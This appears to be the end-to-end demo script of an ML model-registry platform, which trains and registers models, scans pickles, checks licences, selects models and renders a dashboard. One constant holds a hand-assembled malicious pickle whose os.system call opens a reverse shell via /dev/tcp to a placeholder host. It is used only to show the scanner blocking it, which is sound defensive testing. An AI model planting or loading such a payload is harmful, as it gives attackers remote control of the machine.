"""The end-to-end demo. Each capability adds its step here.

It runs in a temporary home with SQLite, local blobs and no network, so it shows
exactly what a new user gets from ``make demo``.
"""

from __future__ import annotations

import pickle
import shutil
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from rich.console import Console
from rich.table import Table

from stoa.client import LocalClient
from stoa.demo.assistant import evaluate_assistant, run_assistant
from stoa.demo.measuring import measure_the_day
from stoa.demo.scaling import scale_out
from stoa.demo.traffic import serve_a_day

PROMPT = (
    "You are a botanist. Given sepal length {{ sepal_length }} cm and petal length "
    "{{ petal_length }} cm, name the iris species and explain why in one sentence."
)


def _iris_csv(folder: Path) -> Path:
    """The iris data that scikit-learn ships, written as the CSV a user would register."""
    from sklearn.datasets import load_iris

    frame = load_iris(as_frame=True).frame
    frame.columns = [c.replace(" (cm)", "").replace(" ", "_") for c in frame.columns]
    path = folder / "iris.csv"
    frame.to_csv(path, index=False)
    return path


def run_demo(console: Console, *, keep: bool = False) -> dict[str, Any]:
    home = Path(tempfile.mkdtemp(prefix="stoa-demo-"))
    steps: list[tuple[str, str, float]] = []

    def step(label: str, action: Callable[[], str]) -> None:
        started = time.perf_counter()
        with console.status(label):
            outcome = action()
        steps.append((label, outcome, (time.perf_counter() - started) * 1000))

    try:
        client = LocalClient(home=home, actor="demo")  # ignores STOA_DATABASE_URL and co.
        work = home / "work"
        work.mkdir()
        csv = _iris_csv(work)
        out: dict[str, Any] = {}

        step(
            "initialise home",
            lambda: f"SQLite schema {client.stores.db.current_revision()} in {home}",
        )
        step("register dataset", lambda: _register_dataset(client, csv, out))
        step("train and log model", lambda: _train_and_log(client, csv, out))
        step("set alias", lambda: _alias(client, out))
        step("register prompt", lambda: _prompt(client, out))
        step("scan: clean pickle allowed", lambda: _clean_pickle(client, work, out))
        step("scan: malicious pickle blocked", lambda: _blocked_pickle(client, work, out))
        step("pull: licence held for review", lambda: _pull_for_review(client, work, out))
        step("load champion", lambda: _load_champion(client, csv, out))
        step("walk lineage", lambda: _lineage(client, out))
        step("search runs", lambda: _search_runs(client, out))
        step("register local LLM", lambda: _register_llm(client, out, console))
        step("select: ticket intents", lambda: _select_tickets(client, work, out, console))
        step("select: churn (tabular)", lambda: _select_churn(client, work, out, console))
        step("knowledge base: ingest docs", lambda: _kb_ingest(client, out))
        step("knowledge base: re-ingest", lambda: _kb_reingest(client, out))
        step("knowledge base: evaluate", lambda: _kb_eval(client, out, console))
        step("solution: support assistant", lambda: run_assistant(client, out, console))
        step("solution: evaluate with judges", lambda: evaluate_assistant(client, out, console))
        step("serve: a day of traffic", lambda: serve_a_day(client, out, console))
        step("measure: A/B, review, drift, alerts", lambda: measure_the_day(client, out, console))
        step("scale: Ray Serve and Ray Data", lambda: scale_out(client, work, out, console))
        step("dashboard: render every page", lambda: _dashboard(client, out))

        summary = Table(title=f"Stoa demo — home {home}", title_justify="left")
        summary.add_column("step")
        summary.add_column("result")
        summary.add_column("time (ms)", justify="right")
        for label, outcome, ms in steps:
            summary.add_row(label, outcome, f"{ms:.0f}")
        console.print(summary)
        client.close()
        if keep:
            console.print(
                "Everything above is in the dashboard. Start the server on the demo's home:\n"
                f"  stoa --home {home} server\n"
                f"and open {DASHBOARD_URL}"
            )
        return out
    finally:
        if not keep:
            shutil.rmtree(home, ignore_errors=True)


#: Where ``stoa server`` serves the dashboard with its default host and port.
DASHBOARD_URL = "http://127.0.0.1:8000/ui"


def dashboard_pages(out: dict[str, Any]) -> list[str]:
    """A page for everything the demo made, as a user would click through them."""
    model, prompt, kb = out["model"], out["prompt"], "stoa-docs"
    churn = out["churn"]
    children = [row["run_id"] for row in churn["leaderboard"] if row.get("run_id")]
    return [
        "/ui", "/ui/models", f"/ui/models/{model.name}", f"/ui/models/{model.name}/{model.version}",
        f"/ui/models/{out['held'].name}/{out['held'].version}", "/ui/review",
        f"/ui/prompts/{prompt.name}/{prompt.version}", f"/ui/datasets/{out['dataset'].name}",
        "/ui/runs", f"/ui/runs/{out['run'].id}", "/ui/selections",
        f"/ui/selections/{churn['run_id']}", "/ui/kbs", f"/ui/kbs/{kb}", "/ui/scans",
        "/ui/solutions", "/ui/solutions/support-assistant",
        *([f"/ui/runs/compare?ids={children[0]}&ids={children[1]}"] if len(children) > 1 else []),
        *_endpoint_pages(out.get("traffic")),
        *_measure_pages(out.get("traffic"), out.get("measure")),
    ]  # fmt: skip


def _endpoint_pages(traffic: dict[str, Any] | None) -> list[str]:
    """The served endpoint: its split, its logbook and one prediction with its feedback."""
    if not traffic:
        return []
    name = traffic["endpoint"]
    return ["/ui/endpoints", f"/ui/endpoints/{name}", f"/ui/endpoints/{name}/predictions",
            f"/ui/predictions/{traffic['prediction_id']}"]  # fmt: skip


def _measure_pages(traffic: dict[str, Any] | None, measure: dict[str, Any] | None) -> list[str]:
    """The endpoint's A/B report and monitoring, the review queue and the alerts."""
    if not traffic or not measure:
        return []
    from datetime import UTC, datetime
    from urllib.parse import urlencode

    name = traffic["endpoint"]
    # The second day against the first, as the measure step printed it.
    since = datetime.fromisoformat(measure["day2_since"])
    window = int((datetime.now(UTC) - since).total_seconds()) + 1
    query = urlencode({"window": f"{window}s", "reference": measure["reference"]})
    return [f"/ui/endpoints/{name}/experiment?metric=ctr", f"/ui/endpoints/{name}/monitor?{query}",
            "/ui/queues", f"/ui/queues/{measure['queue']}", "/ui/alerts"]  # fmt: skip


def _dashboard(client: LocalClient, out: dict[str, Any]) -> str:
    """Render every page in process, as ``stoa server`` would serve it: the demo fails
    here rather than leaving a user a broken page."""
    from fastapi.testclient import TestClient

    from stoa.serve.server.app import create_app

    pages = dashboard_pages(out)
    with TestClient(create_app(client=client), base_url="http://127.0.0.1:8000") as browser:
        broken = [
            f"{p} ({r.status_code})" for p in pages if (r := browser.get(p)).status_code != 200
        ]
    if broken:
        raise RuntimeError(f"dashboard pages failed: {', '.join(broken)}")
    out["dashboard_pages"] = len(pages)
    return f"{len(pages)} pages render; serve them with `stoa server`, then open {DASHBOARD_URL}"


def _register_dataset(client: LocalClient, csv: Path, out: dict[str, Any]) -> str:
    info = client.datasets.register(
        "iris", csv, description="Fisher's iris", tags={"source": "sklearn"}
    )
    out["dataset"] = info
    columns = len(info.spec["columns"])
    return f"{info.ref}: {info.spec['rows']} rows, {columns} columns ({info.format})"


def _train_and_log(client: LocalClient, csv: Path, out: dict[str, Any]) -> str:
    import pandas as pd
    from sklearn.linear_model import LogisticRegression

    frame = pd.read_csv(csv)
    x, y = frame.drop(columns="target"), frame["target"]
    params = {"max_iter": 500, "C": 1.0}
    with client.runs.start("iris-logreg", inputs=[out["dataset"].ref], params=params) as run:
        model = LogisticRegression(**params).fit(x, y)
        run.log_metric("train_accuracy", float((model.predict(x) == y).mean()))
        info = client.models.log(
            "iris-classifier",
            model,
            license="MIT",
            run_id=run.id,
            tags={"task": "classification"},
            metadata={"train_rows": len(frame)},
        )
    out["model"], out["run"] = info, client.runs.get(run.id).info
    return f"{info.ref} flavor={info.flavor} format={info.format} status={info.status}"


def _alias(client: LocalClient, out: dict[str, Any]) -> str:
    alias = client.models.set_alias("iris-classifier", out["model"].version, "champion")
    return f"iris-classifier@champion → version {alias.version} (by {alias.updated_by})"


def _prompt(client: LocalClient, out: dict[str, Any]) -> str:
    info = client.prompts.register(
        "explain-species", PROMPT, variables=["sepal_length", "petal_length"]
    )
    text = client.prompts.render(info.ref, {"sepal_length": 5.1, "petal_length": 1.4})
    out["prompt"] = info
    return (
        f"{info.ref} with variables {', '.join(info.spec['variables'])}; renders {len(text)} chars"
    )


# What a reverse-shell pickle found on a public hub looks like: os.system at load time.
# Assembled from opcodes, so writing it never needs a dangerous object.
_MALICIOUS = (
    b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x93\x94"
    b"\x8c\x17sh -i >& /dev/tcp/x/9 0\x94\x85\x94R\x94."
)


def _clean_pickle(client: LocalClient, work: Path, out: dict[str, Any]) -> str:
    """A scikit-learn model pickled the usual way: every import is on the allowlist."""
    from sklearn.linear_model import LogisticRegression

    frame = _frame(work / "iris.csv")
    model = LogisticRegression(max_iter=500).fit(frame.drop(columns="target"), frame["target"])
    path = work / "team-model.pkl"
    path.write_bytes(pickle.dumps(model))
    info = client.models.register("team-pickle", path, license="MIT")
    out["clean"] = info
    return f"{info.ref} status={info.status}: {info.format}, every import on the allowlist"


def _blocked_pickle(client: LocalClient, work: Path, out: dict[str, Any]) -> str:
    path = work / "pytorch_model.bin"
    path.write_bytes(_MALICIOUS)
    info = client.models.register("downloaded-model", path)
    out["blocked"] = info
    finding = info.findings[0]
    return f"{info.ref} status={info.status}: {finding['message']}"


def _pull_for_review(client: LocalClient, work: Path, out: dict[str, Any]) -> str:
    """A third-party model whose card says non-commercial: clean, but a person must decide."""
    import numpy as np
    from safetensors.numpy import save_file

    source = work / "hub-model"
    source.mkdir()
    save_file({"weight": np.ones((4, 4), dtype=np.float32)}, source / "model.safetensors")
    (source / "README.md").write_text("---\nlicense: cc-by-nc-4.0\n---\n# A hub model\n")
    held = client.models.pull(str(source), "hub-model")
    # A declared licence cannot clear what the card says: still held for review.
    declared = client.models.register("hub-model", source, license="MIT")
    approved = client.models.approve(held.ref, note="research use only")
    # The decision follows the bytes: the same content under another name is released.
    copy = client.models.register("hub-model-copy", source)
    out.update(held=held, declared=declared, approved=approved, copy=copy)
    return (f"{held.ref} {held.license} → {held.status} (declared MIT: {declared.status}); "
            f"approved → {approved.status}; same bytes as {copy.ref} → {copy.status}")  # fmt: skip


def _frame(csv: Path) -> Any:
    import pandas as pd

    return pd.read_csv(csv)


def _load_champion(client: LocalClient, csv: Path, out: dict[str, Any]) -> str:
    import pandas as pd

    model = client.models.load("iris-classifier@champion")
    frame = pd.read_csv(csv)
    accuracy = float((model.predict(frame.drop(columns="target")) == frame["target"]).mean())
    out["accuracy"] = accuracy
    return f"{type(model).__name__} loaded from skops; training accuracy {accuracy:.3f}"


# What the zero-shot candidate knows about each intent: a sentence, no training data.
_INTENT_DESCRIPTIONS = {
    "billing": "questions about invoices, charges, prices and payment methods",
    "refund": "asking for money back for an order or a charge",
    "shipping_delay": "an order or parcel that has not arrived or is late",
    "login_issue": "cannot sign in, password reset or two-factor problems",
    "cancel_subscription": "wants to cancel or stop a subscription or plan",
    "product_question": "questions about a product's features, sizes or compatibility",
    "bug_report": "the app or website crashes, shows an error or does not work",
    "account_update": "change the email, address, name or other account details",
    "damaged_item": "an item arrived broken, damaged or with missing parts",
}


def _register_llm(client: LocalClient, out: dict[str, Any], console: Console) -> str:
    """The packaged SmolLM2-135M-Instruct GGUF through the gate, aliased ``champion``,
    so the ticket selection can prompt it as the ``llm`` candidate."""
    from stoa.develop.llm.local import packaged_gguf

    path = packaged_gguf()
    info = client.models.register("smollm2", path, license="Apache-2.0")
    if info.status == "allowed":
        client.models.set_alias("smollm2", info.version, "champion")
    out["llm"] = info
    header = info.spec or {}  # what the flavor read off the GGUF's header
    template = "chat template present" if header.get("chat_template") else "no chat template"
    findings = f"{len(info.findings)} finding(s)" if info.findings else "no findings"
    size = f"{info.size / 2**20:.0f} MB"
    return (f"{info.ref} status={info.status}: {info.flavor} {info.format}, {size}, "
            f"licence {info.license}, {findings}, {template}")  # fmt: skip


#: The llm candidate in the demo. Each row is a call of a 135M model, 3-4 s on this
#: 2-core machine with no examples and 3x that with one per label (docs/selection.md),
#: so the demo prompts zero-shot on a 10-row seeded sample (enough to show it is slower
#: and weaker than the small models; its interval says how wide), within the demo's
#: five minutes now that it also serves a day of traffic.
DEMO_LLM = {"model": "smollm2@champion", "shots": 0, "sample": 10, "latency_samples": 3}


def _select_tickets(client: LocalClient, work: Path, out: dict[str, Any], console: Console) -> str:
    """Does the team need a general model? TF-IDF vs MiniLM + head vs zero-shot vs a
    prompted local LLM, measured side by side."""
    from stoa.demo.synthetic_data import write_demo_data
    from stoa.develop.ml.select import numpy_safe, parse_config, run_selection

    files = write_demo_data(work)
    config = parse_config({
        "name": "ticket-intents",
        "data": {"path": str(files["tickets"]), "target": "intent", "text": "body",
                 "split": {"test_size": 0.2, "seed": 7}},
        "primary_metric": "f1_macro",
        "constraints": {"max_p95_ms": 50, "min_f1_macro": 0.8},
        "evaluation": {"bootstrap": 200},
        "candidates": [
            {"name": "tfidf", "kind": "tfidf_linear"},
            {"name": "minilm-head", "kind": "embedding_head"},
            {"name": "zero-shot", "kind": "zero_shot", "labels": _INTENT_DESCRIPTIONS},
            {"name": "llm", "kind": "llm_prompt", "params": DEMO_LLM},
        ],
    })  # fmt: skip
    result = numpy_safe(run_selection(client, config, register="ticket-intent"))
    out["tickets"] = result
    console.print(_leaderboard(result))
    return _recommendation(result)


def _select_churn(client: LocalClient, work: Path, out: dict[str, Any], console: Console) -> str:
    from stoa.develop.ml.select import numpy_safe, parse_config, run_selection

    config = parse_config({
        "name": "churn",
        "data": {"path": str(work / "churn.csv"), "target": "churned",
                 "split": {"test_size": 0.2, "seed": 11}},
        "primary_metric": "roc_auc_ovr",
        "constraints": {"max_p95_ms": 50, "min_roc_auc_ovr": 0.75},
        "evaluation": {"bootstrap": 200},
        "candidates": [
            {"name": "xgb", "kind": "xgboost", "params": {"n_estimators": 200, "max_depth": 4}},
            {"name": "logreg", "kind": "logistic_regression", "params": {"max_iter": 1000}},
            {"name": "lgbm", "kind": "lightgbm", "params": {"n_estimators": 200}},
        ],
    })  # fmt: skip
    result = numpy_safe(run_selection(client, config))
    out["churn"] = result
    console.print(_leaderboard(result))
    return _recommendation(result)


DEMO_DOCS = Path(__file__).parent / "docs"  # the project's own user guide, shipped
DEMO_QA = Path(__file__).parent / "data" / "kb_qa.jsonl"


def _kb_ingest(client: LocalClient, out: dict[str, Any]) -> str:
    client.kbs.create("stoa-docs", pii="redact", description="Stoa's user guide")
    summary = client.kbs.ingest("stoa-docs", [DEMO_DOCS], sync=True)
    out["kb_ingest"] = summary
    d, c = summary["documents"], summary["chunks"]
    found = ", ".join(f"{n} {kind}" for kind, n in summary["pii"].items()) or "none"
    return (f"version {summary['version']}: {d['added']} documents, {c['embedded']} chunks "
            f"embedded, {d['failed']} failed; personal data redacted: {found}")  # fmt: skip


def _kb_reingest(client: LocalClient, out: dict[str, Any]) -> str:
    summary = client.kbs.ingest("stoa-docs", [DEMO_DOCS], sync=True)
    out["kb_reingest"] = summary
    return (f"version {summary['version']}: {summary['documents']['unchanged']} unchanged, "
            f"{summary['chunks']['embedded']} chunks embedded")  # fmt: skip


def _kb_eval(client: LocalClient, out: dict[str, Any], console: Console) -> str:
    from stoa.cli.kb import eval_table

    report = client.kbs.eval("stoa-docs", DEMO_QA.read_text(encoding="utf-8"), k=5)
    out["kb_eval"] = report
    console.print(eval_table(report))
    best = max(report["modes"], key=lambda m: (report["modes"][m]["mrr"], m == "hybrid"))
    top = report["modes"][best]
    return (
        f"best MRR: {best} {top['mrr']:.3f} (hit@5 {top['hit_at_k']:.3f}); run {report['run_id']}"
    )


def _leaderboard(result: dict[str, Any]) -> Any:
    from stoa.cli.select import leaderboard_table

    return leaderboard_table(result)


def _recommendation(result: dict[str, Any]) -> str:
    best = result["recommendation"]
    if best is None:
        return "no candidate met the constraints"
    row = next(r for r in result["leaderboard"] if r["name"] == best)
    primary = result["primary_metric"]
    registered = (result.get("registered") or {}).get("alias")
    where = f"; registered {registered}" if registered else ""
    return (
        f"{best} ({row['kind']}): {primary} {row['metrics'][primary]:.3f}, "
        f"p95 {row['latency_ms']['p95']:.1f} ms, ${row['cost_per_1k']:.2e}/1k{where}"
    )


def _search_runs(client: LocalClient, out: dict[str, Any]) -> str:
    found = client.runs.search(metrics=["train_accuracy>0.9"], order_by="-metrics.train_accuracy")
    out["runs"] = found
    best = found[0]
    commit = best.environment.get("git_commit", "no git")[:12]
    accuracy = best.metrics["train_accuracy"]
    return f"{len(found)} run(s) with train_accuracy>0.9; best {accuracy:.3f}, code {commit}"


def _lineage(client: LocalClient, out: dict[str, Any]) -> str:
    lineage = client.models.lineage("iris-classifier@champion")
    nodes = [lineage.start, *lineage.upstream]
    chain = " ← ".join(f"{n.type} {n.ref[:12] if n.type == 'run' else n.ref}" for n in nodes)
    out["lineage"] = lineage
    return chain
